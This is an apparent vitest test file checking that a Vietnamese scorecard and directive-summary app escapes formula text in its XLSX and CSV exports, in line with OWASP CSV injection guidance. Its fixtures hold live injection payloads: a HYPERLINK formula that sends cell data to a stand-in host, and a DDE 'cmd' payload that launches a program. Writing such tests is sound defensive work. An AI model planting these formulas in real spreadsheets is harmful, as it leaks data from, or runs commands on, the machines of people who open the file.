// Every export escapes text that a spreadsheet would run as a formula (OWASP CSV injection), and leaves
// numbers, negative ones included, as numbers.
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { buildScorecard } from '../core/scorecard';
import { buildIndicator, buildObservation, buildTarget, buildUnit } from '../core/testing/factories';
import { summarizeDirectives } from '../core/visit/directive-summary';
import { directiveSummaryXlsx } from './directive-summary-xlsx';
import { buildImportTemplateCsv, buildImportTemplateXlsx } from './import-template';
import { buildScorecardXlsx } from './scorecard-xlsx';
import { safeCellText } from './workbook';

const LINK = '=HYPERLINK("http://x.example/?d="&A1,"Bấm")';

async function rowsOf(bytes: Buffer, sheetName: string): Promise<unknown[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const rows: unknown[][] = [];
  workbook.getWorksheet(sheetName)!.eachRow((row) => {
    rows.push((row.values as unknown[]).slice(1));
  });
  return rows;
}

describe('formula text in exports', () => {
  it('prefixes an apostrophe to text starting with =, +, -, @, tab or CR, and to nothing else', () => {
    expect(
      ['=1+1', '+84 290', '-3 vụ', '@SUM(A1)', '\tx', '\rx', 'Sản lượng', '24.937', ''].map(safeCellText),
    ).toEqual(["'=1+1", "'+84 290", "'-3 vụ", "'@SUM(A1)", "'\tx", "'\rx", 'Sản lượng', '24.937', '']);
  });

  it('escapes an indicator named as a formula in the scorecard and keeps -12,5 a number', async () => {
    const unit = buildUnit({ id: 2 });
    const bad = buildIndicator({ id: 7, code: '@TOM', nameVi: LINK, measure: '+tấn', decimals: 1 });
    const scorecard = buildScorecard({
      unit,
      year: 2023,
      asOf: '2023-11-17',
      indicators: [bad],
      targets: [buildTarget({ unitId: 2, indicatorId: 7, value: -20 })],
      observations: [buildObservation({ unitId: 2, indicatorId: 7, value: -12.5 })],
    });
    const [, , row] = await rowsOf(await buildScorecardXlsx(scorecard), 'Bảng chỉ tiêu');
    expect(row?.slice(0, 5)).toEqual(["'@TOM", `'${LINK}`, "'+tấn", -20, -12.5]);
  });

  it('escapes a unit name in the directive summary, counts stay numbers', async () => {
    const summary = summarizeDirectives(
      [{ leadUnitId: 2, deadline: '2023-12-31', completedOn: '2023-12-20' }],
      '2024-01-15',
    );
    const bytes = await directiveSummaryXlsx({
      title: 'Tổng hợp',
      asOf: '2024-01-15',
      dueSoonDays: 7,
      rows: summary.rows.map((r) => ({ ...r, unitName: '-Đảng ủy xã' })),
      totals: summary.totals,
    });
    // eachRow skips the empty third row: title, date, heading, then the unit.
    const rows = await rowsOf(bytes, 'Tổng hợp kết luận');
    expect(rows[3]).toEqual([1, "'-Đảng ủy xã", 1, 1, 0, 0, 0, 0, 100]);
  });

  it('escapes the catalog of the import template', async () => {
    const bytes = await buildImportTemplateXlsx({
      units: [{ code: 'HU', name: '=cmd|" /C calc"!A0' }],
      indicators: [{ code: 'TS_TOM', nameVi: 'Sản lượng tôm', measure: 'tấn' }],
    });
    const [, row] = await rowsOf(bytes, 'Danh mục');
    expect(row).toEqual(['HU', `'=cmd|" /C calc"!A0`, 'TS_TOM', 'Sản lượng tôm', 'tấn']);
  });

  it('keeps the numbers of the CSV template as written', () => {
    const [, target] = buildImportTemplateCsv().split('\n');
    expect(target).toBe(
      'chỉ tiêu;HU_CAINUOC;TS_TOM;;;2023;;nghị quyết;29004;Nghị quyết Đại hội Đảng bộ huyện;',
    );
  });
});
